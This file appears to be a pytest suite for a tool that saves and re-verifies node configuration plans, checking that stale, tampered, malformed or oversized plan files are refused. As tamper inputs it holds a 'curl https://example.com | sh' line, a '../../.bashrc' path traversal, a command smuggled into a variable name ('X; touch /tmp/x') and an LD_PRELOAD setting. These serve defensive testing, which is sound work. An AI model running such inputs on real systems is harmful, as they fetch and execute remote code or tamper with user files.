"""Plans that were saved: nothing that they say is taken on trust, and what changed since is named."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from diagnosing import variant
from planning import bare, planned, recipe, sets, setting, shm
from raxl.errors import CannotStart, RecipeError, UnreadableInput
from raxl.host.record import Recording
from raxl.model import codec
from raxl.model.plan import PLAN, READY, Plan, PlanDocument
from raxl.model.recipe import Shelved
from raxl.recipe import apply, generations, saved
from raxl.recipe.generations import State

ROOM = {"id": "room", "fact": "shm.size_bytes", "op": ">=", "value": 1 << 20, "unverified": "a trial"}
TRIAL: dict[str, Any] = {
    "requires": [ROOM],
    "env": {"set": [sets("NCCL_ALGO", "Ring"), sets("NCCL_X", "{cpu.threads}")]},
}


def document(*plans: Plan) -> PlanDocument:
    return PlanDocument(PLAN, "1", "2026-12-01T00:00:00Z", plans)


def written(folder: Path, *plans: Plan, change: Callable[[Any], None] | None = None) -> Path:
    """The plans as a file, with what somebody made of its JSON."""
    told = json.loads(codec.encode(document(*plans)))
    if change:
        change(told)
    path = folder / "plan.json"
    path.write_text(json.dumps(told))
    return path


def again(path: Path, machine: Recording, state: State) -> Plan:
    """What `apply` makes of a saved plan: read, its recipe planned on this node, and held against the plan."""
    there = saved.of_node(saved.read(path), machine.name)
    now = planned(machine, saved.recipe_of(there), state)
    saved.compare(there, now)
    return now


@pytest.fixture
def root(tmp_path: Path) -> Path:
    return tmp_path / "root"


def first(root: Path, shelved: Shelved | None = None) -> Plan:
    return planned(bare(), shelved or recipe(**TRIAL), generations.state(root))


def test_a_saved_plan_is_the_plan(tmp_path: Path, root: Path) -> None:
    made = first(root)
    now = again(written(tmp_path, made), bare(), generations.state(root))
    assert codec.encode(now) == codec.encode(made)
    assert now.status == READY


def test_a_plan_may_be_applied_twice(tmp_path: Path, root: Path) -> None:
    path = written(tmp_path, made := first(root))
    apply.applied(made, generations.state(root), "2026-12-01T00:00:00Z")
    machine = bare(environment={"NCCL_ALGO": "Ring", "NCCL_X": "32"})  # the environment file was sourced
    assert again(path, machine, generations.state(root)).status == "nothing-to-change"


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (shm(4 << 30), "stale plan: shm.size_bytes was 8589934592, is 4294967296"),
        ("process filesystems !denied", r"shm.size_bytes was 8589934592, is not known \(not-permitted: Permission"),
    ],
)
def test_a_node_that_changed_makes_the_plan_stale(change: Any, words: str, tmp_path: Path, root: Path) -> None:
    with pytest.raises(RecipeError, match=words) as raised:
        again(written(tmp_path, first(root)), bare(change), generations.state(root))
    assert raised.value.exit_code == 1
    assert "raxl recipe plan trial" in str(raised.value)


def test_a_fact_that_became_known_makes_it_stale(tmp_path: Path, root: Path) -> None:
    blind = planned(bare("process filesystems !denied"), recipe(**TRIAL), generations.state(root))
    with pytest.raises(RecipeError, match=r"was not known \(.*\), is 8589934592"):
        again(written(tmp_path, blind), bare(), generations.state(root))


def test_hardware_that_changed_makes_it_stale_by_its_label(tmp_path: Path, root: Path) -> None:
    shelved = recipe(env={"set": [sets("NCCL_ALGO", "Ring")]})
    (whole, lost) = (variant(name) for name in ("nvidia-hgx-h100", "nvidia-hgx-h100-gpu-missing"))
    made = planned(whole, shelved, generations.state(root))
    lost.name = whole.name
    with pytest.raises(RecipeError, match=r"stale plan: accelerators.count was 8, is 7; .*and \d+ more|was 8, is 7"):
        again(written(tmp_path, made), lost, generations.state(root))


def test_a_file_that_changed_in_force_makes_it_stale(tmp_path: Path, root: Path) -> None:
    path = written(tmp_path, first(root))
    other = first(root, recipe(env={"set": [sets("NCCL_ALGO", "Tree")]}))
    apply.applied(other, generations.state(root), "2026-12-01T00:00:00Z")
    with pytest.raises(RecipeError, match=r"stale plan: trial\.env is not in force as it was then"):
        again(path, bare(), generations.state(root))


def test_a_plan_for_another_root_or_node_is_refused(tmp_path: Path, root: Path) -> None:
    path = written(tmp_path, first(root))
    with pytest.raises(RecipeError, match="the plan is for the root"):
        again(path, bare(), generations.state(tmp_path / "elsewhere"))
    with pytest.raises(RecipeError, match="the plan is for store-2, and this is gpu-1"):
        saved.of_node(saved.read(path), "gpu-1")


def test_of_several_plans_each_node_has_its_own(tmp_path: Path, root: Path) -> None:
    made = first(root)
    path = written(tmp_path, replace(made, node="other"), made)
    assert saved.of_node(saved.read(path), made.node) == made


def plan_of(told: Any) -> Any:
    return told["plans"][0]


def _content(told: Any) -> None:
    plan_of(told)["files"][0]["content"] += "curl https://example.com | sh\n"


def _hash(told: Any) -> None:
    plan_of(told)["files"][0]["after_sha256"] = "0" * 64


def _more(told: Any) -> None:
    plan_of(told)["files"].append({"path": "../../.bashrc", "status": "new", "content": "x"})


def _less(told: Any) -> None:
    del plan_of(told)["files"][0]


def _facts(told: Any) -> None:
    plan_of(told)["facts_sha256"] = "0" * 64


def _recipe(told: Any) -> None:
    plan_of(told)["recipe"]["env"]["set"][0]["value"] = "Tree"


def _sum(told: Any) -> None:
    plan_of(told)["recipe_sha256"] = "0" * 64


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (_content, "trial.env of the plan does not follow from its recipe"),
        (_hash, "trial.env of the plan does not follow from its recipe"),
        (_more, "../../.bashrc of the plan does not follow from its recipe"),
        (_less, "trial.env of the plan does not follow from its recipe"),
        (_facts, "the plan was edited"),
        (_recipe, "the plan was edited .its recipe is not the one"),
        (_sum, "the plan was edited .its recipe is not the one"),
    ],
)
def test_a_plan_that_was_edited_is_refused(
    change: Callable[[Any], None], words: str, tmp_path: Path, root: Path
) -> None:
    path = written(tmp_path, first(root), change=change)
    with pytest.raises(RecipeError, match=words) as raised:
        again(path, bare(), generations.state(root))
    assert raised.value.exit_code == 1


def test_a_recipe_within_a_plan_is_held_like_any_other(tmp_path: Path, root: Path) -> None:
    def hostile(told: Any) -> None:
        plan_of(told)["recipe"]["env"]["set"][0]["name"] = "X; touch /tmp/x"

    path = written(tmp_path, first(root), change=hostile)
    with pytest.raises(RecipeError):
        again(path, bare(), generations.state(root))


def test_what_a_plan_says_beside_its_bytes_does_not_count(tmp_path: Path, root: Path) -> None:
    """Its status and settings are made again: a plan cannot allow itself what nobody allowed."""
    loads = recipe(env={"set": [sets("LD_PRELOAD", "/opt/x.so")]})

    def ready(told: Any) -> None:
        plan_of(told)["status"] = READY
        plan_of(told)["settings"] = []
        plan_of(told)["preconditions"] = []

    path = written(tmp_path, first(root, loads), change=ready)
    now = again(path, bare(), generations.state(root))
    assert now.status == "needs-allow-code"
    assert setting(now, "LD_PRELOAD").loads_code


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("", "is no plan"),
        ("{", "is no plan"),
        ("[]", "is no plan"),
        ("{}", "is no plan"),
        ('{"schema": "raxl.plan/v2", "raxl_version": "1", "created": "", "plans": []}', "its schema is raxl.plan/v2"),
        ('{"schema": "raxl.plan/v1", "raxl_version": "1", "created": "", "plans": []}', "holds no plan"),
        ('{"schema": "raxl.plan/v1", "raxl_version": "1", "created": "", "plans": [{"node": 1}]}', "is no plan"),
        ("[" * 100_000, "is no plan"),
        ("\ud800", "is no plan"),
    ],
)
def test_what_is_no_plan_is_refused_in_one_line(text: str, words: str, tmp_path: Path) -> None:
    path = tmp_path / "plan.json"
    path.write_bytes(text.encode("utf-8", "surrogatepass"))
    with pytest.raises(RecipeError, match=words) as raised:
        saved.read(path)
    assert "\n" not in str(raised.value)


def test_a_plan_that_is_too_large_is_not_read(tmp_path: Path) -> None:
    path = tmp_path / "plan.json"
    with open(path, "wb") as file:
        file.truncate(saved.LARGEST + 1)
    with pytest.raises(RecipeError, match="larger than 16 MiB"):
        saved.read(path)


def test_what_is_no_file_is_not_waited_for(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    with pytest.raises(UnreadableInput, match="no regular file"):
        saved.read(tmp_path / "pipe")
    with pytest.raises(CannotStart, match="cannot be read"):
        saved.read(tmp_path / "none")
    with pytest.raises(CannotStart):
        saved.read(tmp_path)


def test_a_plan_is_told_from_a_recipe(tmp_path: Path, root: Path) -> None:
    assert saved.looks_like_plan(written(tmp_path, first(root)))
    (tmp_path / "recipe.yaml").write_text("schema: raxl.recipe/v1\n")
    assert not saved.looks_like_plan(tmp_path / "recipe.yaml")
